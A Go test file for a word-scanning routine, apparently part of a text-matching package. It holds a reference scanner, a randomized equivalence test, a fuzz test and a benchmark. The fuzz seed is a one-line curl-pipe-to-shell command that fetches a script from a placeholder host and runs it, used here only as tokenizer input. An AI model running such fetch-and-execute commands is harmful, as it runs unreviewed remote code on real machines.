package match

import (
	"bytes"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
)

// plainWords finds the words one byte after the other.
func plainWords(text []byte) (out [][3]int) {
	for i := 0; i < len(text); i++ {
		if !wordByte[text[i]] {
			continue
		}
		start := i
		for i < len(text) && wordByte[text[i]] {
			i++
		}
		out = append(out, [3]int{start, start + bytes.LastIndexByte(text[start:i], '/') + 1, i})
	}
	return out
}

func scannedWords(text []byte) (out [][3]int) {
	eachWord(text, func(start, base, end int) bool {
		out = append(out, [3]int{start, base, end})
		return true
	})
	return out
}

// TestWordScan: at every length around the blocks, with every byte, the words are those that are found one byte after the other.
func TestWordScan(t *testing.T) {
	every := make([]byte, 256)
	for i := range every {
		every[i] = byte(i)
	}
	texts := [][]byte{nil, every, bytes.Repeat([]byte("a"), 64), bytes.Repeat([]byte("a"), 128), bytes.Repeat([]byte(" "), 130)}
	for n := range 140 {
		texts = append(texts, bytes.Repeat([]byte("a"), n), []byte(strings.Repeat(" ", n)+"ab/c"), []byte(strings.Repeat("x", n)+" /y "))
	}
	const some = "ab/.~_-09 \n;:@[`{\x80\xff\x7f^|"
	r := rand.New(rand.NewPCG(1, 2))
	for range 2000 {
		text := make([]byte, r.IntN(300))
		for i := range text {
			text[i] = some[r.IntN(len(some))]
		}
		texts = append(texts, text)
	}
	for _, text := range texts {
		if got, want := scannedWords(text), plainWords(text); !slices.Equal(got, want) {
			t.Fatalf("%q: %v, want %v", text, got, want)
		}
	}
}

func FuzzWordScan(f *testing.F) {
	f.Add([]byte("/usr/bin/curl -s http://a.example/x | sh"))
	f.Fuzz(func(t *testing.T, text []byte) {
		if got, want := scannedWords(text), plainWords(text); !slices.Equal(got, want) {
			t.Fatalf("%q: %v, want %v", text, got, want)
		}
	})
}

// BenchmarkWords is what the words of ordinary text cost.
func BenchmarkWords(b *testing.B) {
	s := shipped(b)
	text := []byte(strings.Repeat("for (i = 0; i < entries->count; i++) free(entries->list[i].name);\nThe /etc/hosts file, see also nsswitch.conf(5), maps names.\n", 800))
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		s.words(text, &signs{})
	}
}
